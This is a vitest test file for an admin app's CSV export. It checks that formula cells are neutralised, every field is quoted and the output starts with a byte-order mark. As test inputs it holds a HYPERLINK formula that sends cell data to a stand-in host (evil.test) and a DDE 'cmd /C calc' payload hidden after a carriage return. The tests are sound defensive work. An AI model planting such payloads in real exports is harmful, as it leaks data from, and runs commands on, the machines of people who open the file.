import { afterEach, describe, expect, it, vi } from 'vitest';
import { downloadRowsAsCsv } from '../../admin/src/shared/csv';

/** In the admin: the report and audit exports write no cell a spreadsheet would run. */
describe('CSV exports', () => {
  const original = URL.createObjectURL;
  afterEach(() => {
    URL.createObjectURL = original;
  });

  it('neutralises formula cells, keeps numbers and starts with a byte-order mark', async () => {
    const blobs: Blob[] = [];
    // jsdom has no object URLs: keep the Blob react-admin's downloadCSV hands to the link.
    URL.createObjectURL = (blob: Blob | MediaSource) => {
      blobs.push(blob as Blob);
      return 'blob:csv';
    };
    downloadRowsAsCsv(
      [
        { 'S. No': 1, 'State/Territory': '=HYPERLINK("http://evil.test/?d="&A1,"Click")', Count: 3 },
        { 'S. No': 2, 'State/Territory': 'ไทย', Count: -4 },
      ],
      'country-report',
    );
    await vi.waitFor(() => expect(blobs).toHaveLength(1));
    const bytes = await new Promise<ArrayBuffer>((resolve) => {
      const reader = new FileReader();
      reader.onload = () => resolve(reader.result as ArrayBuffer);
      reader.readAsArrayBuffer(blobs[0]!);
    });
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
    // Every field quoted: a lone carriage return cannot end a row.
    expect(text.split('\r\n')).toEqual([
      '\ufeff"S. No","State/Territory","Count"',
      `"1","'=HYPERLINK(""http://evil.test/?d=""&A1,""Click"")","3"`,
      '"2","ไทย","-4"',
    ]);
  });

  it('quotes a field holding a lone carriage return and neutralises the line after it', async () => {
    const blobs: Blob[] = [];
    URL.createObjectURL = (blob: Blob | MediaSource) => {
      blobs.push(blob as Blob);
      return 'blob:csv';
    };
    // A staff name stored before control characters were refused.
    downloadRowsAsCsv([{ Member: "Demo Team\r=cmd|' /C calc'!A0", Action: 'Signed in' }], 'audit-log');
    await vi.waitFor(() => expect(blobs).toHaveLength(1));
    const bytes = await new Promise<ArrayBuffer>((resolve) => {
      const reader = new FileReader();
      reader.onload = () => resolve(reader.result as ArrayBuffer);
      reader.readAsArrayBuffer(blobs[0]!);
    });
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
    expect(text).toBe(`\ufeff"Member","Action"\r\n"Demo Team\r'=cmd|' /C calc'!A0","Signed in"`);
  });
});
